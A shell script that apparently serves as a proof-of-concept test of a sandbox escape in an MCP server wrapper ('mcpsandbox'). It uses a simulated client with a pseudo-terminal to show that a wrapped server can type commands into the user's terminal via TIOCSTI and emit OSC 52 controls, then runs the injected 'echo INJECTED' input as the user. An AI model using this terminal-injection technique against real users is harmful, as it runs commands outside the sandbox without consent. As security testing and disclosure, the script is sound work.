#!/bin/sh
# atk36 F5: the wrapped server inherits wrap's stderr; when that is the user's terminal (wrap run by hand,
# the MCP Inspector CLI, any client on the MCP TypeScript SDK's default stderr "inherit"), the server
# types into the terminal (TIOCSTI) and writes raw terminal controls (OSC 52). Run as root; needs
# /tmp/atk36/mcpsandbox. The client is simulated: a process with a pty as its controlling terminal and
# stderr, MCP stdin/stdout pipes, starting `mcpsandbox wrap` as its server.
set -e
. /work/notes/atk36/setup.sh
D=/tmp/atk36/f5; rm -rf $D; mkdir -p $D; chmod 755 $D
HERE=$(dirname "$(readlink -f "$0")")
cp "$HERE/f5_server.py" $D/server.py
cat > $D/wrap.toml <<P
version = 1
scheme  = "wrap"
name    = "ttyprobe"
[limits]
memory  = "1GiB"
timeout = "30s"
[audit]
path = "$D/audit.jsonl"
[wrap]
command = []
network = false
P
echo "dev.tty.legacy_tiocsti = $(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null || echo n/a)"
python3 - <<'PY'
import os, termios, fcntl, time, select, subprocess
D='/tmp/atk36/f5'
code=open(D+'/server.py').read()
m, s = os.openpty()
pid=os.fork()
if pid==0:
    os.setsid(); fcntl.ioctl(s, termios.TIOCSCTTY, 0)
    os.dup2(s,2); os.close(m)
    r,w=os.pipe(); os.dup2(r,0)
    os.execv('/tmp/atk36/mcpsandbox',['mcpsandbox','wrap','--policy',D+'/wrap.toml','--','python3','-c',code])
out=b''; t0=time.time()
while time.time()-t0<8:
    x,_,_=select.select([m],[],[],0.3)
    if x:
        try: out+=os.read(m,4096)
        except OSError: break
os.kill(pid,9); os.waitpid(pid,0)
print("=== what the terminal showed (the server's raw stderr, and the echo of input typed into it):")
for line in out.split(b"\n"): print("  ", repr(line))
os.set_blocking(s, False)
try: typed=os.read(s,4096)
except BlockingIOError: typed=b''
print("=== the next input the user's shell reads from the terminal:", repr(typed))
if typed.startswith(b"echo INJECTED"):
    print("=== a shell reading it runs it as the user, outside the sandbox:")
    print("  ", subprocess.run(["sh","-c",typed.decode()],capture_output=True,text=True).stdout.strip())
PY
rm -rf $D
